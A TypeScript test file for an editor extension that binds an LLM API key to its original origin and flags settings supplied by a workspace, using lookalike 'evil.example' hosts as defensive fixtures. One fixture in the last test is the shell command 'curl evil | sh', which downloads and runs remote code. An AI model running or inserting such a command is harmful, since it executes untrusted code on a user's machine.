import { test, describe } from 'node:test';
import assert from 'node:assert/strict';
import { keyDecision, keyQuestion, originOf, parseStoredKey, serializeKey, settingText, workspaceProvided } from '../extension/lm-trust';

describe('the LM API key is bound to the origin it was entered for', () => {
  test('origins: scheme, host and port; default ports and case folded; only http(s)', () => {
    assert.equal(originOf('http://127.0.0.1:8000/v1'), 'http://127.0.0.1:8000');
    assert.equal(originOf('https://LLM.Example.com:443/v1/'), 'https://llm.example.com');
    assert.equal(originOf('file:///etc/passwd'), undefined);
    assert.equal(originOf('not a url'), undefined);
    assert.equal(originOf(''), undefined);
  });

  test('a stored key keeps its origin; a plain string is a key from before binding', () => {
    const stored = { key: 'sk-1', origin: 'https://llm.example.com' };
    assert.deepEqual(parseStoredKey(serializeKey(stored)), stored);
    assert.deepEqual(parseStoredKey('sk-legacy'), { key: 'sk-legacy' });
    assert.deepEqual(parseStoredKey('{"not":"a key"}'), { key: '{"not":"a key"}' });
    assert.equal(parseStoredKey(undefined), undefined);
    assert.equal(parseStoredKey(''), undefined);
  });

  const stored = { key: 'sk-1', origin: 'https://llm.example.com' };
  const never = () => undefined;

  test('sent to its own origin, whatever the path', () => {
    assert.equal(keyDecision(stored, 'https://llm.example.com/v1', never), 'send');
    assert.equal(keyDecision(stored, 'https://llm.example.com:443/other/v1', never), 'send');
  });

  test('another host, port or scheme is a question, asked once: the remembered answer decides', () => {
    for (const url of ['https://evil.example/v1', 'https://llm.example.com:8443/v1', 'http://llm.example.com/v1', 'https://llm.example.com.evil.example/v1']) {
      const decision = keyDecision(stored, url, never);
      assert.deepEqual(decision, { ask: keyQuestion(stored, originOf(url)!) }, url);
    }
    const question = keyQuestion(stored, 'https://evil.example');
    assert.equal(keyDecision(stored, 'https://evil.example/v1', (q) => (q === question ? false : undefined)), 'none');
    assert.equal(keyDecision(stored, 'https://evil.example/v1', (q) => (q === question ? true : undefined)), 'send');
    // An answer about one origin says nothing about another.
    assert.deepEqual(keyDecision(stored, 'https://other.example/v1', (q) => (q === question ? true : undefined)), {
      ask: keyQuestion(stored, 'https://other.example'),
    });
  });

  test('no key, or a base URL that is not http(s): nothing to send', () => {
    assert.equal(keyDecision(undefined, 'https://llm.example.com/v1', never), 'none');
    assert.equal(keyDecision(stored, 'file:///tmp/x', never), 'none');
  });

  test('a key from before binding is asked about for every origin', () => {
    assert.deepEqual(keyDecision({ key: 'sk-legacy' }, 'https://llm.example.com/v1', never), { ask: '(unbound key) -> https://llm.example.com' });
  });
});

describe('settings chosen by the workspace', () => {
  test('only a workspace or folder value in effect counts as the workspace\'s', () => {
    assert.equal(workspaceProvided({ defaultValue: '', globalValue: 'https://mine/v1' }), undefined);
    assert.equal(workspaceProvided({ globalValue: 'https://mine/v1', workspaceValue: 'https://theirs/v1' }), 'https://theirs/v1');
    assert.equal(workspaceProvided({ workspaceValue: 'https://a/v1', workspaceFolderValue: 'https://b/v1' }), 'https://b/v1');
    assert.equal(workspaceProvided(undefined), undefined);
  });

  test('values are shown and remembered exactly', () => {
    assert.equal(settingText('https://theirs/v1'), 'https://theirs/v1');
    assert.equal(settingText(['sh', '-c', 'curl evil | sh']), '["sh","-c","curl evil | sh"]');
  });
});
